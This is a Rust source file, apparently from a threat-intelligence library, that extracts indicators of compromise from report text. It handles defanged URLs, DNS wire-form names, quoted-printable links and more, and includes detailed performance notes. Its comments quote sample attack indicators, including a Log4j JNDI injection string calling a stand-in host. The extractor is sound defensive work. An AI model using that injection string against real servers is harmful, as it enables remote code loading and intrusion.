//! Extraction of indicators from free text, with exact byte spans.
//!
//! The scanner walks the text once, cutting it into segments at white
//! space and at punctuation that never occurs inside an indicator. Most
//! segments are plain words and are dropped after one byte-class check;
//! the rest are trimmed of surrounding punctuation, refanged, and tried
//! against the kinds in a fixed order, with the precision rules of
//! [`crate::rules`] deciding the ambiguous cases (file names that end in a
//! top-level domain, code members, anti-virus names, version numbers).
//! Two forms the scan cannot see are looked for apart: hosts whose dots
//! are written as words (`payload dot bad-actor dot ru`, a `memchr` search
//! for ` dot `, since the scan skips plain words) and names in DNS wire
//! form (`|0a|…|00|` in a rule, `(3)cdn(14)…(0)` in a Windows DNS log). No
//! cue reads back over a whole line: each reads a bounded window, so a
//! minified document on one line costs what the same text on many does.
//!
//! Speed comes from not looking closely: plain prose is skipped eight bytes
//! at a time up to the next byte that can belong to an indicator (a digit,
//! `.`, `:`, `/`, `\`, `@`, a bracket, non-ASCII...); one table of byte
//! flags, filled while the segment is cut, tells `piece` which kinds are
//! possible at all; and every parser is preceded by an exact, cheaper
//! check that only rejects what the parser would reject (no domain parse
//! for a name with a character no domain holds, no refang without a byte
//! that starts a marker, no hash parse at the wrong length, no domain
//! parse for a name ending in a file extension that is no top-level
//! domain). Judgements that repeat are remembered: a report names the same
//! hosts again and again, so a domain's disposition is kept per thread for
//! the last 128 names (of up to 62 bytes, kept inline), and what a URL's
//! host decides (whether it is a host at all, and the host's part of the
//! URL's disposition) for the last 512 hosts. Measure with
//! `examples/throughput.rs` under `valgrind --tool=callgrind`
//! (instructions per byte), and confirm with the criterion bench `compare`
//! in `benches/`.
//!
//! On 28 November 2026 one extract of the dev corpus cost 133.2 M
//! instructions (125.8 M that morning): the ` dot ` search 3.6 M, the mail
//! header and WHOIS cues about 2.5 M; the figures below are older.
//!
//! Where the time goes (dev corpus, 3.7 MB, 19,891 matches; callgrind,
//! November 2026, `extract` and the drop of its result, after a first
//! extract of the same text): about 30.2 instructions per byte in all
//! (110.8 M with the context cues of `cue.rs`, which look at the words
//! next to an indicator; 117.6 M, 32.0 a byte, before the per-host memory
//! of URLs below; 129.4 M, 35.2 a byte, before the pair tables, the
//! output's reserve, the rejections below and byte searches in place of
//! `char` patterns in the parses), of which the scan that cuts and
//! classifies segments is about 10.8 (its own code, for 98,700 segments:
//! the eight-byte skip over prose, the walk back to the segment start and
//! the flag loop) and the pieces it hands on (61.1 M, of which dotted
//! names 20.3 M, file names 5.1 M, URL parses 5.7 M, refanging 4.5 M,
//! domain judgements 3.0 M) are most of the rest. Measured on a first
//! extract (after one of a few words, so that the lists are loaded but no
//! memory is warm), 109.6 M, 29.8 a byte (115.8 M before). In wall-clock
//! time (12.4 ms a run, before the pair tables), taking parts out one at
//! a time: the scan with trimming about 5 ms, the pieces about 7.5 ms, of
//! which dispositions about 1.2 ms and URLs about 1.3 ms. Before the
//! per-host memory a URL cost about 7,400 instructions (parse, host
//! domain, disposition); now a URL on a host seen before costs its parse
//! and its path's rules (the dev corpus's 3,406 URLs have 762 hosts; the
//! host facts of 3,251 URL candidates cost 2.8 M on a first extract, the
//! domain parses and dispositions of the new hosts most of it). A new
//! domain cost about 5,700 (a third of it the disposition lookups, which
//! now walk the name's parents once for what `kyoyu-known` lists under it
//! and exactly, where three calls looked up the same parents twice), a
//! file name or path about 2,400, a SHA-1 about 1,800 (figures from
//! before this round). The 22,400 rejected pieces cost a few
//! hundred each, the most common being the `)` after a URL, `(e.g.`, a
//! Markdown link's text (`[Source]`) and code members; a word with a
//! single `/` (`/code` and other command switches, `N/A`) no longer gets
//! that far. An extract allocates about 16,500 times (22,900 before
//! quiet parses that build no error for a rejected file name, address or
//! network, a URL host judged without a `String` of its own, hives and
//! version words compared in place): mostly the indicators' own strings.
//! Tried and not kept: a per-thread map that kept every URL host (a
//! `Box<str>` each) cost 0.5 M more on a first extract than 512 slots
//! (it only looked better when a warm-up extract of the same text had
//! filled it), and the same map for domain dispositions cost 1.4 M more
//! than its 128 slots (most names are new, and each paid an allocation);
//! taking a slot from the hash's top bits instead of its low bits changed
//! nothing measurable for the domain slots.
//! The scan's eight-byte loops look the bytes up in pairs (a table of
//! 65,536 entries for the pairs, one load and an OR per two bytes, about
//! 1.5 instructions a byte where the byte table took 2.5; 4.7 M fewer on
//! the dev corpus, and no slower by the clock): a SWAR test on the skip,
//! tried, costs as much as the lookups it saves, a skip by comparisons
//! that the compiler does sixteen bytes at a time ran no faster, and pairs
//! in the loops' last few bytes (and in the walk back to a segment's
//! start) cost more in set-up than they saved. A per-scan memory of
//! segments (a third of the pieces repeat) saved about as much in `piece`
//! as its lookups cost; tried again keyed by the piece with the byte on
//! each side (what trimming, a URL's quote and a domain's next byte read),
//! in an open-addressing table, it saved 1.2%, not worth marking every
//! rule that reads further. Searches inside pieces (brackets, `:`,
//! `cve-`, bracket balance) go eight bytes per step on `u64` words with
//! zero-byte masks.

use std::io::Read;

use kyoyu_known::{Category, Known};
use kyoyu_taxonomy::vocabulary;

use crate::cue::{ends_with_ci, line_start_within};
use crate::rules::*;
use crate::types::domain::DomainParts;
use crate::types::ip::parse_ipv4;
use crate::*;

vocabulary! {
    crate = kyoyu_indicators;
    /// What a match looks like in its context: an attacker indicator, or
    /// something benign a report mentions. Extraction never drops a match
    /// for its disposition; callers filter.
    ///
    /// `#[non_exhaustive]`: adding a disposition is not a breaking change.
    #[non_exhaustive]
    pub enum Disposition: "disposition" ("判定", "Disposition") {
        Indicator = "indicator" {
            "攻撃の指標", "Indicator",
            "攻撃者の通信先や痕跡とみられる。",
            "Looks like an attacker's infrastructure or artefact.",
        },
        Reference = "reference" {
            "参照先", "Reference",
            "ベンダーの解説や規格など、文脈として示された参照先。",
            "A link to a vendor write-up, standard or database, given as context.",
        },
        Benign = "benign" {
            "無害", "Benign",
            "よく知られた正規のサービスや空ファイルのハッシュなど。",
            "A well-known legitimate service, the hash of an empty file and the like.",
        },
        Documentation = "documentation" {
            "例示用", "Documentation",
            "RFCで例示用に予約されたアドレスやドメイン。",
            "An address or domain reserved for documentation.",
        },
        Internal = "internal" {
            "内部", "Internal",
            "プライベートアドレスなど組織内部の資源。被害組織の特定につながりうる。",
            "A private or internal resource; it may point at the victim's network.",
        },
    }
}

/// One indicator found in text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Match {
    /// The parsed indicator (canonical, refanged).
    pub indicator: Indicator,
    /// Byte offset where the raw match starts in the input.
    pub start: usize,
    /// Byte offset just past the raw match (`start <= end`).
    pub end: usize,
    /// Whether the raw text was defanged.
    pub defanged: bool,
    /// How it looks in context.
    pub disposition: Disposition,
}

impl Match {
    /// The kind.
    pub fn kind(&self) -> IndicatorKind {
        self.indicator.kind()
    }
    /// The canonical value.
    pub fn value(&self) -> String {
        self.indicator.to_string()
    }
    /// The raw text of the match in `input` (the text it was found in).
    pub fn raw<'a>(&self, input: &'a str) -> &'a str {
        input.get(self.start..self.end).unwrap_or_default()
    }
}

/// Configures an [`Extractor`].
#[derive(Clone, Debug)]
pub struct ExtractorBuilder {
    kinds: u32,
    max_matches: usize,
    nested: bool,
}

impl Default for ExtractorBuilder {
    fn default() -> Self {
        ExtractorBuilder { kinds: u32::MAX, max_matches: usize::MAX, nested: false }
    }
}

fn bit(k: IndicatorKind) -> u32 {
    let i = IndicatorKind::ALL.iter().position(|x| *x == k).unwrap_or(31);
    1u32 << i.min(31)
}

impl ExtractorBuilder {
    /// Extract only these kinds (all by default).
    pub fn kinds(mut self, kinds: &[IndicatorKind]) -> Self {
        self.kinds = kinds.iter().fold(0, |m, &k| m | bit(k));
        self
    }

    /// Stop after this many matches per input (unlimited by default).
    pub fn max_matches(mut self, n: usize) -> Self {
        self.max_matches = n;
        self
    }

    /// Also report CVE and ATT&CK ids inside URLs
    /// (`https://nvd.nist.gov/vuln/detail/CVE-2024-30088` yields the URL and
    /// then the CVE id), and the address or domain that a UNC path names
    /// (`\\45.61.137.90@80\share\doc.url` yields the path, then
    /// `45.61.137.90`). Off by default: matches then never overlap, which
    /// callers that rewrite text rely on; with it on, a nested match's span
    /// lies inside its URL's or path's, and matches stay ordered by start.
    ///
    /// ```
    /// use kyoyu_indicators::Extractor;
    ///
    /// let text = "Patched: https://nvd.nist.gov/vuln/detail/CVE-2024-30088.";
    /// let found = Extractor::builder().nested_ids(true).build().extract(text);
    /// let kinds: Vec<_> = found.iter().map(|m| (m.kind().id(), m.raw(text))).collect();
    /// assert_eq!(kinds, [
    ///     ("url", "https://nvd.nist.gov/vuln/detail/CVE-2024-30088"),
    ///     ("cve", "CVE-2024-30088"),
    /// ]);
    /// assert_eq!(Extractor::new().extract(text).len(), 1);
    /// ```
    pub fn nested_ids(mut self, on: bool) -> Self {
        self.nested = on;
        self
    }

    /// Builds the extractor.
    pub fn build(self) -> Extractor {
        Extractor { kinds: self.kinds, max_matches: self.max_matches, nested: self.nested }
    }
}

/// Finds indicators in text. Build once, use from many threads.
///
/// ```
/// use kyoyu_indicators::{Disposition, Extractor, IndicatorKind};
///
/// let text = "The loader (invoice.zip) beacons to hxxps://cdn-update[.]example-cdn[.]net/gate.php \
///             and 203.0.113[.]77; see https://attack.mitre.org/techniques/T1071/ (T1071.001).";
/// let found = Extractor::new().extract(text);
/// let summary: Vec<_> = found.iter().map(|m| (m.kind().id(), m.value(), m.defanged)).collect();
/// assert_eq!(summary, [
///     ("file-name", "invoice.zip".to_owned(), false),
///     ("url", "https://cdn-update.example-cdn.net/gate.php".to_owned(), true),
///     ("ipv4", "203.0.113.77".to_owned(), true),
///     ("url", "https://attack.mitre.org/techniques/T1071/".to_owned(), false),
///     ("attack-technique", "T1071.001".to_owned(), false),
/// ]);
/// assert_eq!(found[1].raw(text), "hxxps://cdn-update[.]example-cdn[.]net/gate.php");
/// assert_eq!(found[2].disposition, Disposition::Documentation);
/// assert_eq!(found[3].disposition, Disposition::Reference);
/// ```
#[derive(Clone, Debug)]
pub struct Extractor {
    kinds: u32,
    max_matches: usize,
    nested: bool,
}

impl Default for Extractor {
    fn default() -> Self {
        Extractor::new()
    }
}

/// The largest piece of text considered as one candidate.
const MAX_PIECE: usize = 8192;

impl Extractor {
    /// An extractor for every kind.
    pub fn new() -> Extractor {
        ExtractorBuilder::default().build()
    }

    /// A builder.
    pub fn builder() -> ExtractorBuilder {
        ExtractorBuilder::default()
    }

    fn wants(&self, k: IndicatorKind) -> bool {
        self.kinds & bit(k) != 0
    }

    /// All matches in `text`, in order of position, not overlapping (but
    /// see [`ExtractorBuilder::nested_ids`]).
    pub fn extract(&self, text: &str) -> Vec<Match> {
        // Reports run to about one indicator per 200 bytes (the dev corpus:
        // one per 185); starting a little above that saves the regrowth,
        // whose copy of the matches cost about 1.5 M instructions on the
        // dev corpus, more than 1% of the extraction.
        let mut out = Vec::with_capacity((text.len() / 160).min(1 << 16));
        self.scan(text, 0, false, &mut |m| out.push(m));
        out
    }

    /// Extracts from many documents on all cores; results are in input
    /// order.
    pub fn extract_many(&self, docs: &[&str]) -> Vec<Vec<Match>> {
        let threads = std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1)
            .min(docs.len().max(1));
        if threads <= 1 {
            return docs.iter().map(|d| self.extract(d)).collect();
        }
        let chunk = docs.len().div_ceil(threads);
        std::thread::scope(|scope| {
            let handles: Vec<_> = docs
                .chunks(chunk)
                .map(|part| {
                    scope.spawn(move || part.iter().map(|d| self.extract(d)).collect::<Vec<_>>())
                })
                .collect();
            handles.into_iter().flat_map(|h| h.join().unwrap_or_default()).collect()
        })
    }

    /// Streams `reader` through the extractor with bounded memory, calling
    /// `on_match` for each match (offsets are into the whole stream). The
    /// input is cut at line ends, so no indicator is lost at a chunk edge;
    /// a line longer than 1 MiB is cut at white space, or hard at 1 MiB.
    /// Invalid UTF-8 is replaced before scanning (offsets stay byte offsets
    /// of the original stream for valid input).
    ///
    /// # Errors
    ///
    /// I/O errors from `reader`.
    pub fn extract_reader<R: Read>(
        &self,
        mut reader: R,
        mut on_match: impl FnMut(Match),
    ) -> std::io::Result<()> {
        const CHUNK: usize = 1 << 20;
        let mut buf: Vec<u8> = Vec::with_capacity(2 * CHUNK);
        let mut base = 0usize;
        let mut eof = false;
        let mut qp_seen = false;
        while !eof || !buf.is_empty() {
            if !eof && buf.len() < CHUNK {
                let old = buf.len();
                buf.resize(old + CHUNK, 0);
                let n = read_full(&mut reader, buf.get_mut(old..).unwrap_or_default())?;
                buf.truncate(old + n);
                eof = n == 0;
                if !eof {
                    continue;
                }
            }
            // Cut at the last newline (or white space) that leaves a whole
            // line, unless this is the end of the stream.
            let cut = if eof {
                buf.len()
            } else {
                let window = buf.get(..buf.len().min(2 * CHUNK)).unwrap_or_default();
                window
                    .iter()
                    .rposition(|&b| b == b'\n')
                    .or_else(|| window.iter().rposition(|b| b.is_ascii_whitespace()))
                    .map(|p| p + 1)
                    .unwrap_or(window.len())
            };
            let (text, cut) = match std::str::from_utf8(buf.get(..cut).unwrap_or_default()) {
                Ok(t) => (std::borrow::Cow::Borrowed(t), cut),
                Err(e) if e.error_len().is_none() && !eof => {
                    // A character split at the cut: keep its start for later.
                    let valid = e.valid_up_to();
                    (
                        std::borrow::Cow::Owned(
                            String::from_utf8_lossy(buf.get(..valid).unwrap_or_default())
                                .into_owned(),
                        ),
                        valid,
                    )
                }
                Err(_) => (String::from_utf8_lossy(buf.get(..cut).unwrap_or_default()), cut),
            };
            self.scan(&text, base, qp_seen, &mut on_match);
            // A quoted-printable body's header in this chunk holds for the
            // links of the next ones, as it does in the whole text.
            qp_seen = qp_seen || memchr::memmem::find(text.as_bytes(), QP_HEADER).is_some();
            base += cut;
            buf.drain(..cut);
            if eof && cut == 0 {
                break;
            }
        }
        Ok(())
    }

    /// Scans `text`, reporting matches with offsets shifted by `base`;
    /// `qp_seen`: an earlier part of the stream named a quoted-printable
    /// body.
    fn scan<F: FnMut(Match)>(&self, text: &str, base: usize, qp_seen: bool, emit: &mut F) {
        let bytes = text.as_bytes();
        let mut walk = crate::cue::ListWalk::default();
        let mut count = 0usize;
        let mut i = 0;
        let mut last_end = 0usize;
        // Hosts written with ` dot ` words, which the scan skips as prose.
        // Where the next one starts: one compare a segment.
        let mut spelled = self.spelled_hosts(text).into_iter();
        let mut pending = spelled.next();
        let mut pending_at = pending.as_ref().map_or(usize::MAX, |m| m.start);
        // Where the text first says it is quoted-printable: looked up once,
        // at the first segment that could be such a link.
        let mut qp_at: Option<Option<usize>> = None;
        // A match a rule took whole: reported, the scan goes on after it.
        macro_rules! take {
            ($m:expr) => {{
                let m: Match = $m;
                last_end = m.end;
                i = i.max(m.end);
                count += self.report(text, base, m, emit, &mut walk);
                continue;
            }};
        }
        while i < bytes.len() && count < self.max_matches {
            // Plain prose (letters, white space, commas) holds no
            // indicator: jump to the segment around the next interesting
            // byte, eight bytes per step.
            i = next_segment_start(bytes, i);
            // Skip separators.
            while let Some(&b) = bytes.get(i) {
                if b < 0x80 {
                    if !is_sep(b) {
                        break;
                    }
                    i += 1;
                } else {
                    let c = text.get(i..).and_then(|r| r.chars().next()).unwrap_or(' ');
                    if is_segment_char(c) {
                        break;
                    }
                    i += c.len_utf8();
                }
            }
            let start = i;
            // A spelled host that starts at or before this segment goes
            // first; the scan goes on after it.
            if pending_at <= start {
                let m = pending.take();
                pending = spelled.next();
                pending_at = pending.as_ref().map_or(usize::MAX, |m| m.start);
                if let Some(m) = m.filter(|m| m.start >= last_end) {
                    last_end = m.end;
                    i = i.max(m.end);
                    count += self.report(text, base, m, emit, &mut walk);
                }
                continue;
            }
            let mut ascii_only = true;
            // The byte flags of the segment, eight bytes at a time until
            // its last few bytes.
            let mut flags = 0u16;
            while let Some(chunk) = bytes.get(i..i + 8) {
                // Two bytes per lookup, as in `next_segment_start`.
                let f = chunk.chunks_exact(2).fold(0u16, |acc, pair| {
                    acc | pair_flags(<[u8; 2]>::try_from(pair).map_or(0, u16::from_le_bytes))
                });
                if f & (F_SEP | F_NONASCII) != 0 {
                    break;
                }
                flags |= f;
                i += 8;
            }
            while let Some(&b) = bytes.get(i) {
                // One test for the common byte: every non-ASCII byte has
                // F_NONASCII, no ASCII byte has.
                let f = flags_of(b);
                if f & (F_SEP | F_NONASCII) == 0 {
                    flags |= f;
                    i += 1;
                } else if b < 0x80 {
                    break;
                } else {
                    flags |= F_INTERESTING;
                    let c = text.get(i..).and_then(|r| r.chars().next()).unwrap_or(' ');
                    if !is_segment_char(c) {
                        break;
                    }
                    ascii_only = false;
                    flags |= F_NONASCII;
                    i += c.len_utf8();
                }
            }
            let mut end = i;
            let scanned = (start, end);
            // `"…?k=abc\", data`: in a JSON or C string, the backslash
            // escapes the quote that ends the string; it is no part of what
            // the string held. (Not after a Windows path: `"C:\Temp\"`.)
            if end > start + 1
                && flags & F_BACKSLASH != 0
                && bytes.get(end - 1) == Some(&b'\\')
                && matches!(bytes.get(end), Some(b'"' | b'\''))
                && bytes.get(start..end).is_some_and(|b| !drive_or_unc_path(b))
            {
                end -= 1;
            }
            // `<http://click.example/ls?upn=u001&c=E,1,aB3>` (a link in
            // angle brackets, as mail shows it): the brackets delimit it,
            // and a comma inside is the link's.
            if bytes.get(end) == Some(&b',') && start > 0 && bytes.get(start - 1) == Some(&b'<') {
                if let Some(close) = bracketed_link_end(bytes, start, end) {
                    end = close;
                    i = close;
                }
            }
            // `billing [at] portal-online [dot] com`: a spaced bracket
            // marker joins the words around it into one piece.
            let mut start = start;
            if flags & F_BRACKET != 0 && is_marker_word(bytes.get(start..end).unwrap_or_default()) {
                let word = word_before(bytes, start);
                if word < start && word >= last_end {
                    start = word;
                }
            }
            while let Some(next) = spaced_marker_end(bytes, start, end) {
                end = next;
                i = next;
            }
            if end <= start || start < last_end {
                continue;
            }
            // Plain words, the bulk of any text, stop here.
            if flags & F_INTERESTING == 0 {
                continue;
            }
            // `content:"|0a|snarlfoxql|03|pro|00|"`: a name in DNS wire form
            // (a length byte in hex before each label), as a Suricata or
            // Snort rule matches a query.
            if end - start == 2
                && flags & F_DIGIT != 0
                && bytes.get(start.wrapping_sub(1)) == Some(&b'|')
                && bytes.get(end) == Some(&b'|')
                && start > last_end
            {
                if let Some(m) = self.wire_name(text, start - 1) {
                    take!(m);
                }
            }
            // `(3)cdn(14)office-updater(3)net(0)`: a name as a Windows DNS
            // server's debug log writes it.
            if flags & F_BRACKET != 0
                && bytes.get(start) == Some(&b'(')
                && bytes.get(start + 1).is_some_and(u8::is_ascii_digit)
                && start >= last_end
            {
                if let Some(m) = self.wire_name(text, start) {
                    take!(m);
                }
            }
            // `SHA-256 53fa…bf6` / `5663…295`: a digest a page's line
            // break cut, named by its algorithm right before it.
            if ascii_only
                && (start, end) == scanned
                && flags & F_NOT_HEX == 0
                && end - start >= 8
                && matches!(bytes.get(end), Some(b'\n' | b'\r'))
            {
                if let Some(m) = self.wrapped_digest(text, start, end) {
                    take!(m);
                }
            }
            // `https://intuit-paym=` / `ents-portal.com/inv?cid=3D7731`: a
            // link in a quoted-printable body, cut by a soft line break and
            // with its `=` escaped, read as the body decodes. Only after
            // the text (or the stream before it) said it is
            // quoted-printable.
            if ascii_only
                && (start, end) == scanned
                && flags & F_EQ != 0
                && flags & F_COLON != 0
                && qp_link_cue(bytes, start, end)
                && (qp_seen
                    || qp_at
                        .get_or_insert_with(|| memchr::memmem::find(bytes, QP_HEADER))
                        .is_some_and(|p| p < start))
            {
                if let Some(m) = self.quoted_printable(text, start, end) {
                    take!(m);
                }
            }
            // `update[.]` / `stratus-metrics[.]net`, `…/content/v2/` /
            // `invoice.hta`: an indicator that a line break cut (text taken
            // from a PDF) goes on at the next line.
            if ascii_only
                && (start, end) == scanned
                && matches!(bytes.get(end), Some(b'\n' | b'\r'))
                && matches!(
                    bytes.get(end - 1),
                    Some(b']' | b')' | b'}' | b'@' | b'-' | b'.' | b'/' | b'?' | b'&' | b':')
                )
            {
                if let Some(wrap) = wrapped_continuation(bytes, start, end) {
                    if let Some(m) = self.joined_piece(text, start, end, &wrap) {
                        take!(m);
                    }
                }
            }
            // `telemetry-` / `relay[.]org`: a defanged name whose first part
            // ended the line before at a hyphen (a word the scanner skipped,
            // having nothing of interest). Only a piece with a bracket and a
            // dot after white space can be one: the call is out of line.
            // `ship-` / `track-portal.net` (a PDF's line break): a plain
            // name at the very start of a line right after a hyphen.
            if ascii_only
                && (start, end) == scanned
                && (flags & (F_BRACKET | F_DOT) == F_BRACKET | F_DOT
                    && matches!(bytes.get(start.wrapping_sub(1)), Some(b'\n' | b' ' | b'\t'))
                    || flags & F_DOT != 0
                        && bytes.get(start.wrapping_sub(1)) == Some(&b'\n')
                        && matches!(bytes.get(start.wrapping_sub(2)), Some(b'-' | b'\r')))
            {
                if let Some(m) = self.joined_before(text, start, end, last_end) {
                    take!(m);
                }
            }
            // A word that only ends a sentence or a clause: `word.`, `word:`.
            if ascii_only && end - start > 1 {
                let body = bytes.get(start..end - 1).unwrap_or_default();
                if matches!(
                    bytes.get(end - 1),
                    Some(b'.' | b':' | b')' | b']' | b'*' | b'_' | b'=')
                ) && body.iter().all(|&b| class_of(b) == 0)
                {
                    continue;
                }
            }
            // Without any of these bytes no kind is possible (`piece` would
            // call it a plain word after trimming, which only drops bytes).
            if flags & MAY_HOLD == 0 {
                continue;
            }
            // Digits among punctuation that marks nothing (`132`, `#1`,
            // `2021-08-30`, `111-11-1111`): every kind that holds a digit
            // needs a letter (ids, digests), `=` (a labelled value) or one
            // of the bytes above; trimming only drops bytes.
            if flags & DIGITS_NEED == 0 && (start, end) == scanned {
                // `reference:cve,2023-46604;` (a Snort or Suricata rule):
                // the id after the rule's `cve,` key.
                if bytes
                    .get(start.wrapping_sub(4)..start)
                    .is_some_and(|k| k.eq_ignore_ascii_case(b"cve,"))
                {
                    if let Some(m) = self.rule_cve(text, start, end) {
                        take!(m);
                    }
                }
                continue;
            }
            if ascii_only
                && (start, end) == scanned
                && holds_no_kind(bytes.get(start..end).unwrap_or_default(), flags)
            {
                continue;
            }
            // A Markdown link `[text](url)` is two pieces.
            let link = (bytes.get(start) == Some(&b'['))
                .then(|| bytes.get(start..end)?.windows(2).position(|w| w == b"]("))
                .flatten()
                .map(|k| start + k + 1);
            // `…/api\u3001\u30ed…`, `<hash>\u3002`: text that a JSON export
            // escaped (a Slack or Teams message) is cut at each `\uXXXX`.
            let escaped = ascii_only
                && flags & F_BACKSLASH != 0
                && bytes.get(start..end).and_then(json_escape_in).is_some();
            // `147.45.44.131&lt;/code&gt;`, `evil.com#frag`,
            // `185.215.113.66##comma##185.215.113.217` (a STIX 1 list): an
            // `&` or `#` ends a value that is no link or path.
            let glued = link.is_none()
                && !escaped
                && flags & F_NOT_DNS != 0
                && flags & (F_SLASH | F_BACKSLASH) == 0
                && glued_value_end(bytes.get(start..end).unwrap_or_default(), flags).is_some();
            let whole = [(start, end)];
            let split;
            let parts: &[(usize, usize)] = if glued {
                let mut p = Parts::default();
                let mut at = start;
                let seg = bytes.get(..end).unwrap_or_default();
                while let Some(k) = memchr::memchr2(b'&', b'#', seg.get(at..).unwrap_or_default()) {
                    p.push((at, at + k));
                    at += k + 1;
                }
                p.push((at, end));
                split = p;
                split.as_slice()
            } else if link.is_none() && !escaped {
                &whole
            } else {
                let mut p = Parts::default();
                match link {
                    Some(k) => {
                        p.push((start, k));
                        p.push((k, end));
                    }
                    None => p.push((start, end)),
                }
                split = if escaped { p.split_at_escapes(bytes) } else { p };
                split.as_slice()
            };
            for &(ps, pe) in parts.iter().filter(|(ps, pe)| pe > ps) {
                if ascii_only {
                    // The scanner's flags hold for the piece it scanned.
                    let mut known = ((ps, pe) == scanned).then_some(flags);
                    let mut from = ps;
                    // What follows a URL that link syntax ended early is a
                    // piece of its own: `(https://a.example/x)/[y](https://b.example/y)`.
                    // (Not after other kinds: `T1020_exfil.txt` is one name;
                    // but see the range and id pairs below.)
                    while let Some(m) = self.piece(text, from, pe, known) {
                        last_end = m.end;
                        let url = m.kind() == IndicatorKind::Url;
                        // `45.142.212.10-45.142.212.20`: the range's last
                        // address follows the dash.
                        let range = m.kind() == IndicatorKind::Ipv4
                            && bytes.get(last_end) == Some(&b'-')
                            && bytes.get(last_end + 1).is_some_and(u8::is_ascii_digit);
                        // `CVE-2021-44228/CVE-2021-45046`: ids paired with
                        // a slash; the next one follows it.
                        let pair =
                            matches!(m.kind(), IndicatorKind::Cve | IndicatorKind::AttackTechnique)
                                && bytes.get(last_end) == Some(&b'/')
                                && bytes.get(last_end + 1).is_some_and(u8::is_ascii_alphabetic);
                        count += self.report(text, base, m, emit, &mut walk);
                        // The dash or slash between the two is skipped.
                        let skip = range || pair;
                        if !(url || skip)
                            || last_end <= from
                            || last_end >= pe
                            || count >= self.max_matches
                        {
                            break;
                        }
                        (from, known) = (last_end + usize::from(skip), None);
                    }
                } else {
                    // `ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ｇａｔｅ．ｐｈｐ`: typed with the
                    // input method on, a URL's `：／／` and `／` split it into
                    // segments; the whole full-width run is one piece.
                    if let Some((s, e)) = full_width_url_around(text, ps, pe) {
                        if s >= last_end {
                            if let Some(m) = self.full_width_piece(text, s, e) {
                                last_end = m.end;
                                count += self.report(text, base, m, emit, &mut walk);
                                continue;
                            }
                        }
                    }
                    // `…ffe7\nРегистрация` (a JSON export of a chat in
                    // another script): cut at its escapes, as an ASCII
                    // segment is.
                    let mut sub = Parts::default();
                    sub.push((ps, pe));
                    if bytes.get(ps..pe).and_then(json_escape_in).is_some() {
                        sub = sub.split_at_escapes(bytes);
                    }
                    for (s, e) in sub.as_slice().iter().flat_map(|&(a, b)| script_runs(text, a, b))
                    {
                        let found = self
                            .full_width_piece(text, s, e)
                            .or_else(|| self.piece(text, s, e, None));
                        if let Some(m) = found {
                            last_end = m.end;
                            count += self.report(text, base, m, emit, &mut walk);
                        }
                    }
                }
            }
        }
        // Spelled hosts after the last segment.
        for m in pending.into_iter().chain(spelled) {
            if m.start >= last_end && count < self.max_matches {
                last_end = m.end;
                count += self.report(text, base, m, emit, &mut walk);
            }
        }
    }

    /// Classifies one segment `text[start..end]`, whose byte flags the
    /// scanner may already know.
    fn piece(
        &self,
        text: &str,
        seg_start: usize,
        seg_end: usize,
        seg_flags: Option<u16>,
    ) -> Option<Match> {
        let (start, end) = trim(text, seg_start, seg_end);
        if end <= start || end - start > MAX_PIECE {
            return None;
        }
        let raw = text.get(start..end)?;
        let rb = raw.as_bytes();
        // One pass of byte flags decides which kinds are possible.
        let flags = match seg_flags {
            Some(f) if (start, end) == (seg_start, seg_end) => f,
            _ => rb.iter().fold(0u16, |acc, &b| acc | flags_of(b)),
        };
        let has = |f: u16| flags & f != 0;
        let bracket = has(F_BRACKET);
        // A bracket stands for a dot only in a marker (`[.]`, `(dot)`).
        let markers = if bracket { bracket_markers(rb) } else { BracketMarkers::default() };
        let dot = has(F_DOT | F_NONASCII) || markers.dot;
        let (colon, at, slash, backslash) =
            (has(F_COLON), has(F_AT), has(F_SLASH), has(F_BACKSLASH));
        let (digit, alpha) = (has(F_DIGIT), has(F_ALPHA));
        let hex_only = !has(F_NOT_HEX);
        let plain_word = !(dot || colon || at || slash || backslash || digit);
        if plain_word {
            return None;
        }
        let (url_marker, at_marker) = (markers.url, markers.at);
        // Every URL separator holds a colon, ASCII or full-width.
        let url_like = ((colon || has(F_NONASCII)) && has_url_separator(rb)) || url_marker;
        // `dst=185.100.87.202`, `smtp.mailfrom=evil.com`: the value after a
        // `key=` label, unless the piece is a URL (whose query has `=`).
        if has(F_EQ) && !url_like {
            if let Some(eq) = key_label_end(rb) {
                return self.piece(text, start + eq + 1, end, None);
            }
        }
        let ctx = Ctx { text, start, end, raw, flags, refanged: std::cell::OnceCell::new() };
        // `//cdn.example.com/x.png`: a protocol-relative link names a host.
        if slash && rb.starts_with(b"//") {
            if let Some(m) = self.protocol_relative(&ctx) {
                return Some(m);
            }
        }

        // `HIER_DIRECT/45.137.21.9` (a Squid access log): the peer a
        // request went to, after the hierarchy code.
        if slash && digit && (dot || colon) {
            if let Some(k) = hierarchy_code_len(rb) {
                let peer = self.piece(text, start + k + 1, end, None);
                if let Some(m) =
                    peer.filter(|m| matches!(m.kind(), IndicatorKind::Ipv4 | IndicatorKind::Ipv6))
                {
                    return Some(m);
                }
            }
        }
        if url_like {
            if let Some(m) = self.url(&ctx).or_else(|| self.host_after_scheme(&ctx)) {
                return Some(m);
            }
            // `${${lower:j}ndi:${lower:l}dap://probe.evil.xyz/a}`: a Log4j
            // lookup that hides its scheme in more lookups.
            if rb.contains(&b'$') {
                if let Some(m) = self.lookup_host(&ctx) {
                    return Some(m);
                }
            }
        }
        if at || at_marker || (has(F_NONASCII) && raw.contains('\u{FF20}')) {
            if let Some(m) = self.email(&ctx) {
                return Some(m);
            }
        }
        if backslash || colon {
            if let Some(m) = self.registry_or_windows_path(&ctx) {
                return Some(m);
            }
        }
        if slash && matches!(rb.first(), Some(b'/' | b'~')) {
            if memchr::memchr(b'%', rb).is_some() {
                if let Some(m) = self.encoded_url(&ctx) {
                    return Some(m);
                }
            }
            if let Some(m) = self.unix_path(&ctx) {
                return Some(m);
            }
        }
        if alpha && digit && rb.len() >= MIN_BASE64_URL && !hex_only {
            if let Some(m) = self.base64_url(&ctx) {
                return Some(m);
            }
        }
        // (The key is in the piece, or right before it when trimming took
        // the `=` off.)
        if digit
            && rb.len() >= MIN_HEX_URL
            && (has(F_EQ) && auditd_hex_key(rb)
                || hex_only && auditd_key_before(ctx.text.as_bytes(), ctx.start))
        {
            if let Some(m) = self.hex_url(&ctx) {
                return Some(m);
            }
        }
        if alpha && digit {
            if let Some(m) = self.ids(&ctx) {
                return Some(m);
            }
        }
        // A hash is a whole piece of hex of a digest's length, or the value
